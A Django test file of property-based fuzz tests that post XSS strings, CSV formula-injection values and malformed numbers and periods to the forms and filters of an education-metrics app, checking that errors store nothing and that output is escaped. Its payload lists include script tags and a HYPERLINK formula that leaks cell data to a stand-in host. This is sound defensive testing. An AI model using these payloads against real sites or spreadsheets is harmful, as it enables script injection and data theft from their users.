"""Property-based tests (hypothesis): hostile values posted to every form and put in the
query of the filtered pages, as the role that uses each.

Properties: never a server error (the test client raises one, and nothing answers 5xx);
when the answer is an error, nothing was stored (nothing partial); when a value is
stored, it round-trips and the pages that show it serve it escaped.

Each test makes its data once; each example runs in a savepoint rolled back at its end.
The number of examples comes from tests/conftest.py (`fuzz_budget`): ≥ 10,000 in all on
PostgreSQL (CI), a few on SQLite.
"""

from contextlib import contextmanager
from decimal import Decimal
from urllib.parse import urlencode

import pytest
from django.core.exceptions import ValidationError
from django.db import transaction
from django.test import Client, TestCase
from django.urls import reverse
from hypothesis import given, settings
from hypothesis import strategies as st

from metrics import aggregates
from metrics.models import AuditEvent, District, Metric, Reading, ReadingState, StudentGroup
from metrics.services import reading_record
from reports.models import ExportJob, Highlight

from .conftest import fuzz_budget
from .factories import MetricFactory, PillarFactory, PlanFactory

# --- Hostile values -------------------------------------------------------------------

XSS = ("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>')
# What must never reach a page raw: the start of each payload above.
RAW_MARKUP = ("<script>alert(1)", "<img src=x onerror")
FORMULAS = ('=HYPERLINK("http://evil.test/?"&A1,"Click")', "+1", "-1+1", "@SUM(A1)",
            "=1+1", "\t=1", "\r=1", "'=1", "-", "+", "=")
NUMBERISH = ("", " ", "0", "-0", "-1", "-3", "145", "100", "45.5", "9" * 500, "9" * 30,
             "9" * 61, "1.23456", "0.000000001", "3.14159265358979323846", "1e999", "-1e999",
             "1e-999", "1E5", "NaN", "nan", "-NaN", "sNaN", "Infinity", "-Infinity", "inf",
             "٣", "①", "１２", "१२", "²", "½", "1,000", "1 000", "1_000", "0x10", "12%",
             "$12", "(12)", "--1", "1..2", ".5", "5.", "\x00", "1\x00", " 12 ", "\u200b12")
TEXTISH = XSS + FORMULAS + ("\x00", "a\x00b", "é" * 6000, "😀" * 3000, "x" * 5001,
                            "&amp;", "{{ 1 }}", "{% now 'Y' %}", "\u202e", "\ufeff")
PERIODS = ("2022-23", "2023-24", "2024-25", "2023-24 Q1", "2024-25 Q4", "2024-03", "2022-07",
           "2030-31", "1999-00", "2021-22", "2023-25", "2023-2024", "2023", "FY24",
           "2023-24 Q5", "2023-24 q1", "2023-13", "2023-00", "0000-01", "9999-99", "２０２３-２４",
           "2023‐24", " 2023-24 ", "2023-24\x00")

hostile_number = st.one_of(
    st.sampled_from(NUMBERISH + FORMULAS + XSS),
    st.integers(min_value=-10**40, max_value=10**40).map(str),
    st.decimals(allow_nan=True, allow_infinity=True).map(str),
    st.floats().map(repr),
    st.text(max_size=70),
)
hostile_text = st.one_of(
    st.sampled_from(TEXTISH),
    st.text(max_size=300),
    st.builds(lambda a, b, c: a + b + c, st.text(max_size=20), st.sampled_from(XSS + FORMULAS),
              st.text(max_size=20)),
)
hostile_period = st.one_of(
    st.sampled_from(PERIODS),
    st.from_regex(r"\A[0-9]{4}-[0-9]{2}( Q[0-9])?\Z"),
    st.text(max_size=25),
)


def hostile_id(known=()):
    """A primary key as a form posts it: a real one, a missing one or no number at all."""
    return st.one_of(
        st.just(""), st.sampled_from([str(pk) for pk in known] or ["1"]),
        st.integers(min_value=-2**70, max_value=2**70).map(str),
        st.sampled_from(NUMBERISH + XSS),
    )


# --- The data each test makes once, and the example around it ---------------------------


@pytest.fixture
def world(users, settings, tmp_path):
    """A plan with two pillars; `lead` leads the first, `steward` owns its two metrics."""
    settings.CELERY_TASK_ALWAYS_EAGER = True
    settings.MEDIA_ROOT = tmp_path / "media"
    plan = PlanFactory(slug="fz")
    mine = PillarFactory(plan=plan, slug="mine", order=1)
    theirs = PillarFactory(plan=plan, slug="theirs", order=2)
    mine.leads.add(users["lead"])
    rate = MetricFactory(plan=plan, pillar=mine, code="rate", name="Open rate", unit="percent")
    count = MetricFactory(plan=plan, pillar=mine, code="count", name="Educators trained")
    money = MetricFactory(plan=plan, pillar=mine, code="money", name="Grants",
                          unit="currency")
    other = MetricFactory(plan=plan, pillar=theirs, code="other", name="Other metric")
    for metric in (rate, count, money):
        metric.owners.add(users["steward"])
    district = District.objects.create(code="north", name="North District")
    group = StudentGroup.objects.create(code="ell", name="English learners")
    district.plans.add(plan)
    group.plans.add(plan)
    foreign = District.objects.create(code="elsewhere", name="Not the plan's")
    aggregates.rebuild()
    return {"plan": plan, "mine": mine, "theirs": theirs, "rate": rate, "count": count,
            "money": money, "other": other, "metrics": [rate, count, money],
            "district": district, "group": group, "foreign": foreign, "users": users}


@pytest.fixture
def as_role(world):
    """A client per role, signed in once per test, not per example: a sign-in (the
    session, django-axes' handlers, last_login, the audit event) costs more queries than
    most examples do, and one made inside an example would be rolled back with it."""
    clients = {}
    for name, user in world["users"].items():
        clients[name] = Client()
        clients[name].force_login(user)
        clients[name].signed_in_as = user.pk
    return clients


@contextmanager
def rolled_back(fuzz_case):
    """One example: whatever it stores is undone at its end."""
    fuzz_case()
    with transaction.atomic():
        yield
        transaction.set_rollback(True)


def send(client, method, url, data=None, **extra):
    """A request whose on-commit work (aggregate rebuilds, eager tasks) runs at once."""
    with TestCase.captureOnCommitCallbacks(execute=True):
        response = getattr(client, method)(url, data or {}, **extra)
    assert response.status_code < 500, (url, response.status_code)
    # Still signed in: an example must not undo the sign-in its test made (see as_role).
    assert response.wsgi_request.user.pk == client.signed_in_as, url
    return response


def assert_escaped(client, *urls):
    """No page shows markup from input raw."""
    for url in urls:
        response = client.get(url)
        assert response.status_code < 500, url
        html = response.content.decode()
        for markup in RAW_MARKUP:
            assert markup not in html, (url, markup)


def stored_state():
    """What a refused post must leave as it was."""
    return (
        sorted(Reading.objects.values_list("pk", "metric_id", "period", "district_id",
                                           "student_group_id", "value", "qualifier", "note",
                                           "state", "version")),
        Reading.history.count(),
        sorted(Metric.objects.values_list("pk", "target_value", "target_period",
                                          "baseline_value", "baseline_period",
                                          "on_track_threshold", "at_risk_threshold")),
        AuditEvent.objects.count(),
    )


def stored_before(world):
    """stored_state() as every example of a test starts: each example is rolled back, so
    it is read once per test (and what one example leaked would show in the next)."""
    if "stored" not in world:
        world["stored"] = stored_state()
    return world["stored"]


def shows_markup(*texts):
    """Pages are read back (slow) only when a stored text carries markup to escape."""
    return any(markup in text for text in texts for markup in RAW_MARKUP)


def pages(world, metric):
    plan = world["plan"]
    return (reverse("metrics:metric", args=[plan.slug, metric.code]),
            reverse("metrics:my_updates"),
            reverse("pillars:pillar", args=[plan.slug, metric.pillar.slug]))


def expected_value(metric, raw):
    """What the metric's own rule makes of `raw`, or None when it refuses it."""
    try:
        return metric.validate_value(raw)
    except (ValidationError, TypeError, ValueError):
        return None


# --- The single-reading entry form --------------------------------------------------------


@settings(max_examples=fuzz_budget(1500))
@given(data=st.data(), value=hostile_number, period=hostile_period, note=hostile_text,
       qualifier=st.one_of(st.sampled_from(["", "over", "nearly", "more_than"]), hostile_text),
       evidence_url=st.one_of(st.just(""), st.sampled_from(XSS + FORMULAS + (
           "javascript:alert(1)", "https://example.org/a?b=<script>", "http://[::1", "ftp://x"))),
       version=hostile_id([0, 1]), version_of=st.one_of(st.just(""), hostile_text))
def test_reading_form_takes_any_post(as_role, world, fuzz_case, data, value, period, note,
                                     qualifier, evidence_url, version, version_of):
    metric = data.draw(st.sampled_from(world["metrics"]), label="metric")
    district = data.draw(hostile_id([world["district"].pk, world["foreign"].pk]), "district")
    group = data.draw(hostile_id([world["group"].pk]), label="student_group")
    client = as_role["steward"]
    url = reverse("metrics:enter", args=[world["plan"].slug, metric.code])
    with rolled_back(fuzz_case):
        before = stored_before(world)
        response = send(client, "post", url, {
            "period": period, "value": value, "qualifier": qualifier, "note": note,
            "district": district, "student_group": group, "evidence_url": evidence_url,
            "version": version, "version_of": version_of,
        })
        if response.status_code != 302:
            assert stored_state() == before
            html = response.content.decode()
            for markup in RAW_MARKUP:
                assert markup not in html
            return
        reading = Reading.objects.get(metric=metric)  # the world has none of its own
        assert reading.value == expected_value(metric, value)
        assert reading.note == note.strip()
        assert reading.state == ReadingState.SUBMITTED
        if shows_markup(note):
            assert_escaped(client, *pages(world, metric))


@pytest.mark.parametrize("period", ["0000-01", "9999-12", "9999-00", "0000-01 Q1", "9999-99 Q4"])
def test_a_period_in_a_year_the_calendar_lacks_is_refused_not_a_server_error(
        client, world, period):
    """Found by the property above: "0000-01" raised ValueError in metrics/periods.py."""
    client.force_login(world["users"]["steward"])
    url = reverse("metrics:enter", args=[world["plan"].slug, "count"])
    response = client.post(url, {"period": period, "value": "5", "version": 0})
    assert response.status_code == 200
    assert "is not a period" in str(response.context["form"].errors["period"])
    assert not Reading.objects.exists()


# --- The bulk grid ------------------------------------------------------------------------


@settings(max_examples=fuzz_budget(1100))
@given(data=st.data(), period=hostile_period)
def test_bulk_grid_saves_each_valid_row_and_nothing_of_the_others(as_role, world, fuzz_case,
                                                                   data, period):
    client = as_role["steward"]
    url = reverse("metrics:bulk_entry", args=[world["plan"].slug])
    post = {}
    for metric in world["metrics"]:
        post[f"m{metric.pk}-value"] = data.draw(hostile_number, label=f"{metric.code} value")
        post[f"m{metric.pk}-qualifier"] = data.draw(
            st.sampled_from(["", "over", "nearly", "<script>alert(1)</script>"]))
        post[f"m{metric.pk}-note"] = data.draw(hostile_text, label=f"{metric.code} note")
        post[f"m{metric.pk}-version"] = data.draw(hostile_id([0]), label="version")
    with rolled_back(fuzz_case):
        response = send(client, "post", f"{url}?period={period}", post)
        html = response.content.decode() if response.status_code != 302 else ""
        for markup in RAW_MARKUP:
            assert markup not in html
        rows = {m.pk: form for m, _, form in response.context["rows"]} \
            if response.status_code == 200 else {}
        for metric in world["metrics"]:
            reading = Reading.objects.filter(metric=metric).first()
            form = rows.get(metric.pk)
            if response.status_code == 200 and (form is None or form.errors):
                assert reading is None  # a refused row (or period) stores nothing
            elif reading is not None:
                assert reading.value == expected_value(metric, post[f"m{metric.pk}-value"])
                assert reading.note == post[f"m{metric.pk}-note"].strip()
        if shows_markup(*post.values()) and Reading.objects.exists():
            assert_escaped(client, *pages(world, world["rate"]))


# --- The target form and the targets worklist ---------------------------------------------

TARGET_FIELDS = ("target_value", "target_period", "baseline_value", "baseline_period",
                 "on_track_threshold", "at_risk_threshold")


@settings(max_examples=fuzz_budget(1000))
@given(data=st.data())
def test_target_form_stores_all_or_nothing(as_role, world, fuzz_case, data):
    metric = data.draw(st.sampled_from(world["metrics"]), label="metric")
    post = {name: data.draw(hostile_period if name.endswith("period") else hostile_number,
                            label=name) for name in TARGET_FIELDS}
    client = as_role["lead"]
    url = reverse("metrics:target", args=[world["plan"].slug, metric.code])
    with rolled_back(fuzz_case):
        before = stored_before(world)
        response = send(client, "post", url, post)
        if response.status_code != 302:
            assert stored_state() == before
            for markup in RAW_MARKUP:
                assert markup not in response.content.decode()
            return
        metric.refresh_from_db()
        for name in ("target_value", "baseline_value"):
            raw = post[name].strip()
            stored = getattr(metric, name)
            assert (stored is None) if not raw else stored == Decimal(raw)


@settings(max_examples=fuzz_budget(800))
@given(data=st.data())
def test_targets_worklist_saves_each_valid_row(as_role, world, fuzz_case, data):
    metrics = world["metrics"]
    post = {}
    for metric in metrics:
        for name in ("target_value", "baseline_value"):
            post[f"m{metric.pk}-{name}"] = data.draw(hostile_number, label=name)
        for name in ("target_period", "baseline_period"):
            post[f"m{metric.pk}-{name}"] = data.draw(hostile_period, label=name)
    query = data.draw(st.one_of(st.just(""), st.just("?plan=fz"),
                                hostile_text.map(lambda t: "?" + urlencode({"plan": t}))))
    client = as_role["lead"]
    url = reverse("metrics:targets_worklist") + query
    with rolled_back(fuzz_case):
        before = dict(Metric.objects.values_list("pk", "target_value"))
        response = send(client, "post", url, post)
        if response.status_code == 200:
            for metric, form in response.context["rows"]:
                if form.errors:
                    metric.refresh_from_db()
                    assert metric.target_value == before[metric.pk]
            for markup in RAW_MARKUP:
                assert markup not in response.content.decode()
        elif response.status_code != 302:
            assert dict(Metric.objects.values_list("pk", "target_value")) == before


@settings(max_examples=fuzz_budget(750))
@given(data=st.data(), grid=st.one_of(st.sampled_from(["owners", "leads"]), hostile_text),
       who=st.sampled_from(["lead", "administrator"]))
def test_owners_worklist_takes_any_choice_of_people(as_role, world, fuzz_case, data, grid, who):
    users = world["users"]
    people = [u.pk for u in users.values()]
    post = {"grid": grid}
    for item in (*world["metrics"], world["other"], world["mine"], world["theirs"]):
        prefix = f"{grid}{item.pk}"
        post[f"{prefix}-people"] = data.draw(st.lists(hostile_id(people), max_size=4))
        post[f"{prefix}-shown"] = data.draw(st.sampled_from(["True", "", "on", "x"]))
    client = as_role[who]
    with rolled_back(fuzz_case):
        before = stored_before(world)
        response = send(client, "post", reverse("metrics:owners_worklist"), post)
        if response.status_code not in (200, 302):
            assert stored_state() == before


# --- Approvals ------------------------------------------------------------------------------


@pytest.fixture
def submitted(world):
    """A reading awaiting the lead's review, its note holding markup."""
    return reading_record(metric=world["rate"], period="2023-24", value=Decimal(40),
                          note="<script>alert(1)</script>", user=world["users"]["steward"])


@settings(max_examples=fuzz_budget(900))
@given(action=st.one_of(st.sampled_from(["approve", "return"]), hostile_text),
       comment=hostile_text, query=hostile_text)
def test_approve_and_return_take_any_post(as_role, world, submitted, fuzz_case, action,
                                          comment, query):
    reading = submitted
    client = as_role["lead"]
    with rolled_back(fuzz_case):
        before = stored_before(world)
        response = send(client, "post", reverse("metrics:review", args=[reading.pk]),
                        {"action": action, "comment": comment, "checked": "on"})
        assert response.status_code == 302
        reading.refresh_from_db()
        # A refused form (unknown action, a comment too long or holding a NUL byte, which
        # Django's form fields refuse) stores nothing.
        if (action not in ("approve", "return") or len(comment.strip()) > 2000
                or "\x00" in comment):
            assert stored_state() == before
        elif action == "approve":
            assert reading.state == ReadingState.APPROVED
        listing = send(client, "get", reverse("metrics:approvals"),
                       {"sort": query, "page": query})
        for markup in RAW_MARKUP:
            assert markup not in listing.content.decode()


# --- Highlights and the export form (reports) -----------------------------------------------


@settings(max_examples=fuzz_budget(800))
@given(body=hostile_text, action=st.one_of(st.sampled_from(["save", "preview"]), hostile_text),
       where=st.sampled_from(["intro", "mine", "theirs"]))
def test_highlights_store_any_text_and_show_it_escaped(as_role, world, fuzz_case, body, action,
                                                       where):
    plan = world["plan"]
    url = (reverse("reports:highlight_intro", args=[plan.slug, "2023-24"]) if where == "intro"
           else reverse("reports:highlight_pillar", args=[plan.slug, "2023-24", where]))
    client = as_role["comms"]
    with rolled_back(fuzz_case):
        before = list(Highlight.objects.values_list("pk", "body"))
        response = send(client, "post", url, {"body": body, "action": action})
        if response.status_code != 302:
            assert list(Highlight.objects.values_list("pk", "body")) == before
            for markup in RAW_MARKUP:
                assert markup not in response.content.decode()
            return
        assert Highlight.objects.get().body.strip() == body.strip()
        if shows_markup(body):
            assert_escaped(client, reverse("reports:report", args=[plan.slug, "2023-24"]),
                           reverse("reports:highlights", args=[plan.slug, "2023-24"]))


@settings(max_examples=fuzz_budget(800))
@given(fmt=st.one_of(st.sampled_from(["csv", "xlsx", "docx", "pdf", ""]), hostile_text),
       pillars=st.lists(st.one_of(st.sampled_from(["mine", "theirs"]), hostile_text),
                        max_size=3),
       year=st.sampled_from(["2023-24", "2022-23", "2030-31", "1999-00"]))
def test_export_form_queues_a_job_only_for_a_valid_choice(as_role, world, fuzz_case, fmt,
                                                          pillars, year):
    client = as_role["comms"]
    url = reverse("reports:export", args=[world["plan"].slug, year])
    with rolled_back(fuzz_case):
        before = ExportJob.objects.count()
        with TestCase.captureOnCommitCallbacks(execute=False):  # the job itself: not run here
            response = client.post(url, {"format": fmt, "pillars": pillars})
        assert response.status_code < 500
        if response.status_code != 302:
            assert ExportJob.objects.count() == before
            for markup in RAW_MARKUP:
                assert markup not in response.content.decode()
        else:
            assert ExportJob.objects.count() == before + 1


# --- Query parameters of the pillar table's filters and of the metric page --------------------

PILLAR_FILTERS = ("q", "status", "priority_area", "goal", "level", "owner", "unit", "stale",
                  "sort", "page", "per_page", "_export", "district", "student_group")


@settings(max_examples=fuzz_budget(800))
@given(data=st.data())
def test_pillar_filters_and_metric_page_take_any_query(as_role, world, fuzz_case, data):
    plan = world["plan"]
    names = data.draw(st.lists(st.sampled_from(PILLAR_FILTERS), max_size=4, unique=True))
    query = {name: data.draw(st.one_of(hostile_text, hostile_id([1])), label=name)
             for name in names}
    # `district` by id or code: the readings slice and the by-group view read it.
    slice_query = {"district": data.draw(st.one_of(
                       hostile_id([world["district"].pk]), hostile_text,
                       st.just(world["district"].code))),
                   "student_group": data.draw(hostile_id([world["group"].pk])),
                   "page": data.draw(hostile_id([1, 2])), "sort": data.draw(hostile_text),
                   # the equity views (metrics/views/equity.py) and the by-district table's own
                   "view": data.draw(st.one_of(st.sampled_from(["groups", "districts"]),
                                               hostile_text)),
                   "by-district-sort": data.draw(hostile_text),
                   "by-district-page": data.draw(hostile_id([1, 2]))}
    client = as_role["leadership"]
    with rolled_back(fuzz_case):
        for url, params in ((reverse("pillars:pillar", args=[plan.slug, "mine"]), query),
                            (reverse("metrics:metric", args=[plan.slug, "rate"]), slice_query)):
            response = send(client, "get", url, params)
            body = b"".join(response.streaming_content) if response.streaming \
                else response.content
            text = body.decode("utf-8-sig", "replace")
            for markup in RAW_MARKUP:
                assert markup not in text or params.get("_export") == "csv"


def test_a_worklist_filtered_by_a_plan_slug_with_a_nul_byte_is_not_found(client, world):
    """Found by the property above on PostgreSQL: ?plan=%00 was a DataError (500) in
    metrics/views/worklists.py (_plan_filter)."""
    client.force_login(world["users"]["lead"])
    for name in ("metrics:targets_worklist", "metrics:owners_worklist"):
        assert client.get(reverse(name), {"plan": "fz\x00"}).status_code == 404
